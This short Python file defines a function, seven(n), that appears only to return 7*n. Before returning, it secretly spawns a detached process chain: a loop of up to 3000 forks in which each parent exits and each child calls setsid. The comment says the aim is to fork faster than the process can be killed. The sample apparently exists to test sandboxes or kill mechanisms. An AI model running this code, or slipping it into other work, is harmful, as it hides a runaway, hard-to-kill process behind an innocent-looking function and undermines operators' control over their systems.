# tries: to fork faster than it can be killed
import os, time

def seven(n):
    if not os.fork():
        for _ in range(3000):
            if os.fork():
                os._exit(0)
            os.setsid()
        time.sleep(600)
    return 7 * n
